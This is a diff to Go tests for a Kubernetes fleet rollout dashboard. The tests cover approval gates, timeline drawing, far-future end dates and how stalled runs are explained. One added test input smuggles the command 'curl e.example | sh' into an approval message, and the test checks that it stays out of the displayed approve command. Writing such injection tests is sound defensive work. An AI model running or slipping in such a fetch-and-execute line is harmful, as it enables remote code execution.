@@ -77,13 +77,14 @@ func TestAGateSaysHowItEndsAndWhoMayEndIt(t *testing.T) {
 	stage := stageOf("canary", 1, "")
 	stage.After = []stagetask.State{
 		{Title: "wait", Timed: true, Duration: time.Hour, WaitsSince: noon, Due: noon.Add(time.Hour)},
-		{Title: "approval", Subject: "web-canary", Approvable: true, WaitsSince: noon},
+		{Title: "approval", Subject: "web-canary", Approvable: true, WaitsSince: noon, Message: "1 of 2 votes: x; curl e.example | sh #"},
 	}
 	stage.Before = []stagetask.State{{Title: "analysis", DoneAt: noon}}
 	root := tree.Node{Children: []tree.Node{{Kind: status.KindHold}, {Kind: status.KindStage, State: updaterun.PhaseWaiting, Children: []tree.Node{
 		{Kind: status.KindGate, Name: "analysis before", State: updaterun.PhaseSucceeded}, {Kind: status.KindCluster},
 		{Kind: status.KindGate, Name: "wait 1h", State: updaterun.PhaseWaiting, Due: noon.Add(time.Hour)},
-		{Kind: status.KindGate, Name: "approval after", State: updaterun.PhaseWaiting, Detail: "kubectl fleet approve web --stage canary"},
+		{Kind: status.KindGate, Name: "approval after", State: updaterun.PhaseWaiting, Detail: "1 of 2 votes: x; curl e.example | sh #; kubectl fleet approve web --stage canary",
+			Command: "kubectl fleet approve web --stage canary"},
 	}}}}
 	p := PipelineOf(runOf(stage), root, "", func(stage string) (path, refusal string) { return "/approve/" + stage, "" })
 	drawn := p.Stages[0]
@@ -94,7 +95,7 @@ func TestAGateSaysHowItEndsAndWhoMayEndIt(t *testing.T) {
 	assert.Equal(t, "ends by itself", drawn.After[0].Ends)
 	approval := drawn.After[1]
 	assert.Contains(t, approval.Ends, "who may update the status of approval requests")
-	assert.Equal(t, []string{"kubectl fleet approve web --stage canary", "web-canary", "/approve/canary", "Approve canary"},
+	assert.Equal(t, []string{"kubectl fleet approve web --stage canary", "web-canary: 1 of 2 votes: x; curl e.example | sh #", "/approve/canary", "Approve canary"},
 		[]string{approval.Command, approval.Detail, approval.Path, approval.Label})
 }
 
@@ -157,4 +158,70 @@ func TestAnAxisTakesInAnyTimeInFewSteps(t *testing.T) {
 		run.Stages = append(run.Stages, stageOf(strings.Repeat("n", 253)+fmt.Sprint(i), 0, ""))
 	}
 	assert.Len(t, TimelineOf(run, noon, time.Time{}, plan.Plan{}, nil, noon).Rows, 31)
+}
+
+func TestAnEndInTheFarFutureIsDrawnOpen(t *testing.T) {
+	far := time.Date(9999, 12, 31, 0, 0, 0, 0, time.UTC)
+	run := runOf(stageOf("all", 1, ""))
+	ahead := plan.Plan{Stages: []plan.Stage{{
+		Name: "all", Openings: []plan.Opening{{Wave: 1, For: "hold storm", Opens: &far}}, Earliest: plan.Earliest{Begins: noon, Opened: far, Ends: far},
+	}}}
+	drawn := TimelineOf(run, noon, time.Time{}, ahead, nil, noon.Add(time.Hour))
+	assert.Equal(t, far, drawn.Ends)
+	assert.True(t, drawn.Open)
+	assert.LessOrEqual(t, len(drawn.Marks), maxTicks+1)
+	assert.Less(t, drawn.End.Sub(noon), 2*farthest)
+	require.Len(t, drawn.Rows[0].Bars, 1)
+	assert.Equal(t, breadth, drawn.Rows[0].Bars[0].X+drawn.Rows[0].Bars[0].W)
+	assert.Equal(t, "hold storm, from Nov 23 2026 12:00:00 UTC to Dec 31 9999 00:00:00 UTC at the earliest, which is later than what is drawn", drawn.Rows[0].Bars[0].Text)
+
+	soon := noon.Add(time.Hour)
+	ahead.Stages[0].Openings[0].Opens = &soon
+	ahead.Stages[0].Earliest = plan.Earliest{Begins: noon, Opened: soon, Ends: soon}
+	assert.False(t, TimelineOf(run, noon, time.Time{}, ahead, nil, noon).Open)
+
+	axis := Timeline{}
+	axis.setAxis(time.Time{}, far)
+	assert.NotEmpty(t, axis.Marks, "however long it is")
+}
+
+func TestARunThatTimeAloneDoesNotEndSaysWhatItWaitsFor(t *testing.T) {
+	first := stageOf("canary", 1, "", updaterun.PhaseSucceeded)
+	first.Phase = updaterun.PhaseSucceeded
+	first.After = []stagetask.State{{Title: "rehearsal"}}
+	rest := stageOf("rest", 2, "")
+	ends := noon.Add(time.Hour)
+	known := plan.Plan{Stages: []plan.Stage{{Name: "canary"}, {Name: "rest", Earliest: plan.Earliest{Begins: noon, Opened: noon, Ends: ends}}}}
+	for name, test := range map[string]struct {
+		phase  updaterun.Phase
+		why    string
+		task   stagetask.State
+		ends   time.Time
+		unsure string
+	}{
+		"nothing":       {updaterun.PhaseRunning, "", stagetask.State{Title: "wait", Timed: true}, ends, ""},
+		"an approval":   {updaterun.PhaseWaiting, "", stagetask.State{Title: "approval", Approvable: true, WaitsSince: noon}, ends, "the approval of stage rest ends when a user approves"},
+		"an analysis":   {updaterun.PhaseRunning, "", stagetask.State{Title: "analysis"}, ends, "the analysis of stage rest ends by what it finds"},
+		"what is done":  {updaterun.PhaseRunning, "", stagetask.State{Title: "approval", Approvable: true, DoneAt: noon}, ends, ""},
+		"stopped":       {updaterun.PhaseStopped, "", stagetask.State{}, time.Time{}, "it is stopped, and goes on once a user resumes it"},
+		"stopping":      {updaterun.PhaseStopping, "", stagetask.State{}, time.Time{}, "it is stopped, and goes on once a user resumes it"},
+		"not started":   {updaterun.PhaseInitialized, "", stagetask.State{}, time.Time{}, "it is not started, and begins once a user resumes it"},
+		"stuck":         {updaterun.PhaseStuck, "a is not available", stagetask.State{}, time.Time{}, "it is stuck: a is not available"},
+		"being deleted": {updaterun.PhaseDeleting, "", stagetask.State{}, time.Time{}, "it is being deleted"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			rest.Before = []stagetask.State{test.task}
+			if test.task.Title == "" {
+				rest.Before = nil
+			}
+			run := runOf(first, rest)
+			run.Phase = test.phase
+			run.Why = test.why
+			drawn := TimelineOf(run, noon, time.Time{}, known, nil, noon)
+			assert.Equal(t, test.unsure, drawn.Unsure)
+			assert.Equal(t, test.ends, drawn.Ends)
+		})
+	}
+	held := TimelineOf(runOf(first, stageOf("rest", 2, "")), noon, time.Time{}, known, &Held{noon, "hold storm"}, ends)
+	assert.Equal(t, "it stands still: hold storm", held.Unsure, "what it waits for is not known to end")
 }
